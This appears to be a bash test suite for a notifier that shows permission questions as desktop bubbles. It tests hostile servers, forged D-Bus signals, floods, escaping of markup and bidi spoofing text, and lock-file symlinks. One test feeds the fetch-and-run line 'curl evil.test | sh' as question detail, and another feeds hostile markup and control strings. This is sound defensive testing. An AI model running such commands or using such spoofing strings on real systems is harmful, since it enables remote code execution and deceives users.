#!/usr/bin/env bash
# seldom-notify against a notification server that tells what it was sent, and that hangs, forgets its
# buttons, refuses, lies or is not there. notify_dunst.sh has a real one. Without an argument all parts run at
# once, each on a bus of its own; notify.sh PART runs one.
# shellcheck disable=SC2154 # of lib.bash
. "$(dirname -- "${BASH_SOURCE[0]}")/notify/lib.bash"
cat >"$work/bin/terminal" <<'END'
#!/bin/sh
echo "$*" >>"$HOME/opened"
END
chmod +x "$work/bin/terminal"
printf '[notify]\nterminal = %s -e\n' "$work/bin/terminal" >"$work/.config/seldom/config"

fresh() { # fresh MODES...: a server, a broker, and the notifier between them
	end_notifiers
	server "$@"
	broker
	notifier
}
shown() { wait_for has_calls Notify "$1" || fail "bubble $1 does not come"; }
body_has() { case $(last_call Notify body) in *"$1"*) true ;; *) false ;; esac; }
offers() { last_call Notify actions | /usr/bin/python3 -c 'import json, sys
print(" ".join(sorted(json.load(sys.stdin))))'; }
guard() { sleep 0.6; } # longer than the time in which a press is none

# --- answers -------------------------------------------------------------------------------------------

part_answers() {
	fresh
	equal 'it joins as the front notify' notify "$(heard hello front)"
	tell_broker ask
	shown 1
	equal 'tier 1 has its buttons' 'allow default deny open' "$(offers)"
	equal 'and says who wants what' 'pip wants to CREATE (can be undone)' "$(last_call Notify summary)"
	check 'the difference comes first' body_has 'first write of pip outside the scope
/srv/out/file1'
	equal 'it does not stay when it was pressed' false "$(last_call Notify resident)"
	equal 'nor hides from do-not-disturb' 1 "$(last_call Notify urgency)"
	guard
	tell_server press 1 allow
	wait_for has_heard answer 1
	equal 'a press allows' allow "$(heard answer verdict)"
	equal 'once' once "$(heard answer for)"
	equal 'the narrowest rung' 0 "$(heard answer rung)"
	check 'with the time that it took' test "$(heard answer response_ms)" -ge 600
	tell_broker 'ask {"tier":2}'
	shown 2
	equal 'tier 2 has its buttons' 'allow default deny open' "$(offers)"
	guard
	tell_server press 2 deny
	wait_for has_heard answer 2
	equal 'a press denies' deny "$(heard answer verdict | tail -n 1)"
	tell_broker ask
	shown 3
	guard
	tell_server press 3 open
	wait_for test -s "$work/opened"
	equal 'Open starts the console on the question' "-e $SELDOM --question test.3" "$(cat "$work/opened")"
	equal 'and answers nothing' 2 "$(n_heard answer)"
	tell_broker close test.3
	tell_broker ask
	shown 4
	sleep 1.1 # between two terminals
	tell_server press 4 default
	opened_twice() { [ "$(wc -l <"$work/opened")" = 2 ]; }
	check 'a click beside the buttons opens, too' wait_for opened_twice
}

# --- what is no answer ---------------------------------------------------------------------------------

part_guard() {
	fresh
	tell_broker ask
	shown 1
	tell_server press 1 allow # at once
	shown 2
	equal 'a press within the guard time answers nothing' 0 "$(n_heard answer)"
	pass 'and the bubble is shown again'
	guard
	tell_server press "$(last_call Notify id)" allow
	check 'one after it does' wait_for has_heard answer 1

	fresh race
	tell_broker ask
	shown 1
	guard
	tell_broker 'ask {"id":"test.1","object":"/srv/out/worse"}' # the server says then that the old text was pressed
	shown 3
	equal 'a press on what it said before answers nothing' 0 "$(n_heard answer)"
	check 'and the new text is shown again' body_has /srv/out/worse
	guard
	tell_server press "$(last_call Notify id)" deny
	check 'to be answered' wait_for has_heard answer 1
}

part_offers() {
	fresh
	tell_broker 'ask {"tier":3,"token":"anchor"}'
	shown 1
	equal 'tier 3 only opens' 'default open' "$(offers)"
	equal 'and is urgent' 2 "$(last_call Notify urgency)"
	guard
	tell_server press 1 allow
	tell_broker 'ask {"tier":3,"token":"anchor"}'
	shown 2
	guard
	tell_server press 2 deny
	tell_broker 'ask {"tier":2,"token":"anchor"}'
	shown 3
	equal 'nor does a typed word fit on a button' 'default deny open' "$(offers)"
	guard
	tell_server press 3 allow
	tell_broker ask
	shown 4
	guard
	tell_server press 4 deny
	wait_for has_heard answer 1
	equal 'buttons that were never offered answer nothing' test.4 "$(heard answer id)"

	fresh
	tell_broker "ask {\"object\":\"/$(printf 'x%.0s' $(seq 200))\"}"
	shown 1
	equal 'what is long is not allowed in a bubble' 'default deny open' "$(offers)"
	check 'and it says so' body_has 'too long to be read here'
	tell_broker 'ask {"detail":"+ curl evil.test | sh"}'
	shown 2
	equal 'nor what has more to read' 'default deny open' "$(offers)"
	fresh
	tell_broker 'ask {"rungs":[{"n":0,"kind":"folder","label":"this folder","object":"/srv","exposes":"","covers":1}]}'
	shown 1
	equal 'nor what cannot be allowed once' 'default deny open' "$(offers)"
	tell_broker 'ask {"kind":"flood","op":"other","object":"7 actions","words":{"allow":"ask one by one","deny":"deny all"}}'
	shown 2
	check 'a flood has the words of its question' grep -q '"ask one by one".*"deny all"' <(last_call Notify actions)
}

# --- life of a bubble ----------------------------------------------------------------------------------

part_life() {
	fresh
	tell_broker ask
	shown 1
	tell_broker close test.1 allow line
	check 'a question that was answered elsewhere closes its bubble' wait_for has_calls CloseNotification 1
	equal 'that one' 1 "$(last_call CloseNotification id)"
	tell_broker ask
	sleep 0.5
	tell_broker close test.2 deny line
	tell_broker ask
	shown 2
	check 'one that was answered at once has none' body_has /srv/out/file3
	tell_broker 'ask {"id":"test.3","object":"/srv/out/other"}'
	shown 3
	check 'one that changed is shown anew' body_has /srv/out/other
	equal 'in the same bubble' 2 "$(last_call Notify replaces)"
	tell_server gone 2 2
	sleep 0.3
	tell_broker 'ask {"id":"test.3","object":"/srv/out/again"}'
	tell_broker ask
	shown 4
	check 'what the person closed stays closed' body_has /srv/out/file4
	tell_broker leave # as a broker that died
	check 'with the run its bubbles end' wait_for has_calls CloseNotification 2
}

part_words() {
	fresh
	tell_broker 'refuse you are tired'
	tell_broker ask
	shown 1
	guard
	tell_server press 1 allow
	shown 2
	check 'a refused answer is said' body_has 'not answered: you are tired'
	equal 'and its question is not allowed in a bubble again' 'default deny open' "$(offers)"

	fresh
	tell_broker 'feedback That was a check'
	tell_broker ask
	shown 1
	guard
	tell_server press 1 allow
	shown 2
	check 'a check says that it was one' body_has 'That was a check'
	tell_broker 'ask {"new":"\u0000"}' # no message of the protocol
	check 'a broker that breaks the protocol is left' wait_for has_heard '(left)' 1
}

# --- hostile text --------------------------------------------------------------------------------------

part_text() {
	fresh
	tell_broker 'ask {"object":"/srv/<b>&amp;</b>\u202egnp.exe\u0007\ud83d\ude00","new":"<img src=\"http://x.test\">","who":{"pid":1,"comm":"<b>root</b>\u202e\u200b","exe":"/a&b","chain":["<i>","\u001b[2J"],"cwd":"/\u2066"}}'
	shown 1
	equal 'the first line is no markup, and shows what is invisible' \
		'<b>root</b>\u{202E}\u{200B} wants to CREATE (can be undone)' "$(last_call Notify summary)"
	check 'markup in the body is text' body_has '&lt;img src="http://x.test"&gt;'
	check 'and what looks escaped, too' body_has '/srv/&lt;b&gt;&amp;amp;&lt;/b&gt;\u{202E}gnp.exe\x07😀'
	check 'controls are shown' body_has '&lt;i&gt; &gt; \x1B[2J'
	check 'so are bidirectional ones' body_has 'in: /\u{2066}'
	plain=$(last_call Notify body | LC_ALL=C tr -d '\n' | LC_ALL=C grep -c '[[:cntrl:]]')
	equal 'no control is left' 0 "$plain"
	fresh no-markup
	tell_broker 'ask {"object":"/srv/<b>&"}'
	shown 1
	check 'a server without markup gets none, and no entities' body_has '/srv/<b>&'
}

# --- many ----------------------------------------------------------------------------------------------

part_many() {
	fresh
	tell_broker many 200
	shown 1
	equal 'a burst is one bubble' 'seldom: 200 questions wait' "$(last_call Notify summary)"
	equal 'that opens the console' 'default open' "$(offers)"
	check 'it says who asks' body_has 'pip 200'
	sleep 6
	check 'and it stays at that' test "$(n_calls Notify)" -le 2
	ids=$(calls Notify id | sort -u | wc -l)
	equal 'one bubble in all' 1 "$ids"
	rm -f "$work/opened"
	tell_server press 1 open
	wait_for test -s "$work/opened"
	equal 'Open opens the list' "-e $SELDOM" "$(cat "$work/opened")"
	equal 'nothing was answered' 0 "$(n_heard answer)"
	fresh
	tell_broker ask
	tell_broker ask
	shown 2
	tell_broker ask
	tell_broker 'ask {"tier":3,"token":"x"}'
	shown 3
	sleep 2
	equal 'two have bubbles, the others share one' 'seldom: 2 more questions wait' "$(last_call Notify summary)"
	check 'and the grave among them are counted' body_has '1 of them is grave'
	equal 'three bubbles' 3 "$(calls Notify id | sort -u | wc -l)"
	for n in 1 2 3 4; do tell_broker close test.$n; done
	check 'all are closed with their questions' wait_for has_calls CloseNotification 3
}

# --- a bus with others on it ----------------------------------------------------------------------------

part_forged() {
	fresh
	tell_broker ask
	shown 1
	guard
	# to all, and to each connection alone: the number is right, the sender is not
	/usr/bin/python3 "$fixtures/forge.py" 1 allow >"$work/forged" || fail 'forging does not work'
	check 'canary: the false signals went out, to each connection' test "$(grep -c . "$work/forged")" -ge 2
	tell_broker 'ask {"id":"test.1","object":"/srv/out/later"}'
	shown 2
	equal 'a signal of another sender answers nothing' 0 "$(n_heard answer)"
	equal 'nor does it close the bubble' 1 "$(last_call Notify replaces)"
	equal 'nor is the server taken for gone' 1 "$(n_heard hello)"
	guard
	tell_server press 1 allow
	check 'canary: one of the server does' wait_for has_heard answer 1

	fresh
	tell_broker ask
	shown 1
	guard
	tell_server press 99 allow
	tell_server gone 99 2
	tell_server press 0 allow
	tell_broker 'ask {"id":"test.1","object":"/srv/out/later"}'
	shown 2
	equal 'a press on another number answers nothing' 0 "$(n_heard answer)"
	guard
	tell_server press 1 deny
	check 'canary: one on its own does' wait_for has_heard answer 1
}

part_flood() {
	fresh
	tell_broker ask
	shown 1
	guard
	tell_server flood 1 nonsense 5000
	tell_server flood 99 allow 5000
	tell_server press 1 deny
	check 'a server that talks without end is still heard' wait_for has_heard answer 1
	equal 'and answers once' 1 "$(n_heard answer)"
	tell_broker ask
	shown 2
	guard
	tell_server flood 2 allow 2000
	wait_for has_heard answer 2
	tell_broker ask
	shown 3
	equal 'one press is one answer, however often it is told' 2 "$(n_heard answer)"
}

part_users() {
	local there other
	[ "$(id -u)" = 0 ] || { leave_out 'the bus of another user: only root may join one'; return; }
	there=$(mktemp -d /tmp/notify-other.XXXXXX)
	chown 65534:65534 "$there"
	sed "s|<listen>.*|<listen>unix:path=$there/bus</listen>|" "$(dirname "$NOTIFY_BUS")/bus.conf" >"$there/conf"
	other=(env HOME="$there" XDG_RUNTIME_DIR="$there" setpriv --reuid=65534 --regid=65534 --clear-groups)
	"${other[@]}" test -x "$notify" || { leave_out 'the bus of another user: nobody may not run our programs'; return; }
	"${other[@]}" dbus-daemon --config-file="$there/conf" --nofork 2>/dev/null &
	started
	wait_for test -S "$there/bus"
	DBUS_SESSION_BUS_ADDRESS=unix:path=$there/bus \
		"${other[@]}" /usr/bin/python3 -c "$(cat "$fixtures/server.py")" "$there/log" idle 8>&- 9>&- &
	started
	wait_for grep -qs ready "$there/log" || fail 'the server of the other user does not start'
	server
	check 'canary: on a bus of our own there is a server' grep -q '"name": *"bad' <("$notify" --probe)
	check 'canary: so there is for the other user on his' grep -q '"name": *"bad' \
		<(DBUS_SESSION_BUS_ADDRESS=unix:path=$there/bus "${other[@]}" "$notify" --probe)
	check 'the bus of another user is none of ours' grep -q "another user's" \
		<(DBUS_SESSION_BUS_ADDRESS=unix:path=$there/bus "$notify" --probe)
	broker
	DBUS_SESSION_BUS_ADDRESS=unix:path=$there/bus timeout 20 "$notify" 8>&- 9>&-
	equal 'so it is told nothing' '0 0' "$? $(n_heard hello)"
	rm -rf -- "$there"
}

# --- servers -------------------------------------------------------------------------------------------

part_servers() {
	fresh no-actions
	tell_broker ask
	shown 1
	equal 'a server without buttons gets none' '' "$(offers)"
	check 'but the command that answers' body_has 'run in a terminal: seldom'
	fresh no-body
	tell_broker ask
	shown 1
	equal 'one that shows a single line gets no allow' 'default deny open' "$(offers)"
	fresh refuse
	tell_broker ask
	shown 3
	sleep 3
	equal 'one that refuses is not pressed on' 3 "$(n_calls Notify)"
	fresh
	tell_broker ask
	shown 1
	server # another one: it knows nothing of the first one's
	check 'another server shows what still waits' wait_for has_calls Notify 1
	check 'with the same question' body_has /srv/out/file1
	guard
	tell_server press 1 deny
	check 'and answers it' wait_for has_heard answer 1
}

part_trial() {
	server no-actions
	"$notify" --test 2>"$work/trial" 8>&- 9>&-
	equal 'a trial on one without buttons fails' 1 "$?"
	check 'with the reason' grep -q 'shows no buttons' "$work/trial"
	check 'and shows it' test "$(last_call Notify summary)" = 'seldom: notifications work'
	server
	"$notify" --test 2>"$work/trial" 8>&- 9>&- &
	trial=$!
	wait_for has_calls Notify 1
	tell_server press 1 seen
	wait "$trial"
	equal 'canary: with buttons it does not' '0 ' "$? $(cat "$work/trial")"
	no_server
	"$notify" --test 2>"$work/trial" 8>&- 9>&-
	equal 'nor is there one without a server' 1 "$?"
	check 'which is said, too' grep -q 'no notification server' "$work/trial"
}

part_hang() {
	fresh hang
	tell_broker ask
	shown 1
	check 'a server that hangs is given up' wait_for has_heard '(left)' 1
	end_notifiers
	fresh
	tell_broker ask
	shown 1
	check 'canary: one that does not hang is not' test "$(n_heard '(left)')" = 0
	fresh hang
	tell_broker ask
	shown 1
	wait_for has_heard '(left)' 1
	tell_server go
	check 'one that recovers is used again' wait_for has_heard hello 2
	has_answer() {
		has_calls Notify 2 && has_heard hello 2 && sleep 1 && tell_server press "$(last_call Notify id)" deny && has_heard answer 1
	}
	check 'and its buttons work' wait_for has_answer
	fresh hang-close
	tell_broker ask
	shown 1
	tell_broker close test.1
	wait_for has_calls CloseNotification 1
	tell_broker ask
	check 'one that hangs at the close of a bubble, too' wait_for has_heard '(left)' 1
	end_notifiers
}

part_none() {
	server mute
	broker
	"$notify" 8>&- 9>&- &
	started
	sleep 2
	equal 'one that says nothing at all makes nobody believe that a person is there' 0 "$(n_heard hello)"
	end_notifiers
	pass 'and ends when it is told to'
	no_server
	broker
	timeout 20 "$notify" 8>&- 9>&-
	equal 'without a server it ends' 0 "$?"
	env -u DBUS_SESSION_BUS_ADDRESS timeout 20 "$notify" 8>&- 9>&-
	equal 'without a bus, too' 0 "$?"
	server
	notifier
	timeout 20 "$notify" 8>&- 9>&-
	equal 'a second one leaves the first one alone' 0 "$?"
	equal 'which is still there' 1 "$(n_notifiers)"
	end_notifiers
	printf '[notify]\nenabled = no\n' >"$work/.config/seldom/config"
	timeout 20 "$notify" 8>&- 9>&-
	equal 'turned off, it joins nobody' '0 1' "$? $(n_heard hello)"
}

part_numbers() {
	fresh same-number
	tell_broker ask
	shown 1
	tell_broker ask
	shown 2
	guard
	tell_server press 7 allow
	wait_for has_heard answer 1
	equal 'a number that is given twice is of the later bubble' test.2 "$(heard answer id)"
	tell_broker ask
	shown 3
	guard
	tell_server press 7 deny
	wait_for has_heard answer 2
	equal 'and one press is one answer' 'test.2 test.3' "$(heard answer id | xargs)"
	fresh number-zero
	tell_broker ask
	shown 2
	tell_server press 0 allow
	shown 3
	equal 'no number is no bubble' 0 "$(n_heard answer)"

	for reason in 1 2 3 4; do
		fresh
		tell_broker ask
		shown 1
		tell_server gone 1 "$reason"
		tell_server press 1 allow # too late
		wait_for has_calls '(pressed)' 1
		sleep 0.3
		tell_broker 'ask {"id":"test.1","object":"/srv/out/later"}'
		tell_broker ask
		shown 2
		check "a bubble that is gone stays gone (reason $reason)" body_has /srv/out/file2
		equal 'and answers nothing' 0 "$(n_heard answer)"
	done
}

part_slow() {
	fresh slow
	tell_broker ask
	shown 1
	tell_broker close test.1 # before the server said its number
	tell_broker ask
	check 'one that ends before the server has answered is closed' wait_for has_calls CloseNotification 1
	equal 'that one' 1 "$(last_call CloseNotification id)"
	shown 2
	equal 'a slow server is not left' 0 "$(n_heard '(left)')"
	guard
	wait_for has_calls '(answered)' 2
	guard
	tell_server press 2 deny
	check 'and its buttons work' wait_for has_heard answer 1

	end_notifiers
	server error
	broker
	timeout 20 "$notify" 8>&- 9>&-
	equal 'a server that only knows errors is none' '0 0' "$? $(grep -c hello "$base/broker.log")"
	check 'it was asked' has_calls GetServerInformation 1
}

part_killed() {
	local pid
	printf '#!/bin/sh\necho $$ >"$HOME/opened"\nexec sleep 300\n' >"$work/bin/terminal"
	fresh
	tell_broker ask
	shown 1
	guard
	tell_server press 1 open
	wait_for test -s "$work/opened"
	tell_broker ask
	shown 2
	pid=$(own_notifiers | grep -vxF "$(own_notifiers --desk)")
	kill -KILL "$pid"
	check 'one that is killed leaves no bubble behind' wait_for has_calls CloseNotification 1
	equal 'not that one' 2 "$(last_call CloseNotification id)"
	"$notify" 8>&- 9>&- &
	started
	check 'another one takes its place, whatever it started' wait_for has_heard hello 2
	shown 3
	guard
	tell_server press 3 deny # the question that was opened is asked again by who knows nothing of it
	check 'with the questions that wait' wait_for has_heard answer 1
	kill -KILL "$(own_notifiers --desk)"
	check 'its other half is started again when it is killed' wait_for has_heard hello 3
	check 'canary: what it started is still there' kill "$(cat "$work/opened")"
	end_notifiers

	rm -f "$base/run/seldom/notify.lock"
	ln -s "$base/elsewhere" "$base/run/seldom/notify.lock"
	timeout 20 "$notify" 8>&- 9>&- 2>"$work/lock"
	equal 'a link in place of the lock is refused' 1 "$?"
	check 'with words' grep -q lock "$work/lock"
	check 'and not followed' test ! -e "$base/elsewhere"
	rm -f "$base/run/seldom/notify.lock"
	notifier 4
	check 'canary: without it all is well' has_heard hello 4
}

part_minute() {
	local rate from
	fresh
	from=$SECONDS
	for _ in $(seq 50); do
		tell_broker many 20
		sleep 0.2
	done
	sleep 2
	rate=$((2 + 1 + (SECONDS - from) / 5 + 1))
	check '1,000 questions are few bubbles' test "$(n_calls Notify)" -le "$rate"
	equal 'that count them all' 'seldom: 1000 questions wait' "$(wait_for many_says 1000; last_call Notify summary)"
	echo quit >&9
	wait "$broker_pid"
	broker_pid=
	from=$SECONDS
	check 'without a run it ends' wait_minutes no_notifier
	check 'after a minute, not at once' test $((SECONDS - from)) -ge 58
}
many_says() { [ "$(last_call Notify summary)" = "seldom: $1 questions wait" ]; }
wait_minutes() { wait_for "$@" || wait_for "$@" || wait_for "$@" || wait_for "$@"; }

"part_$1"
done_testing
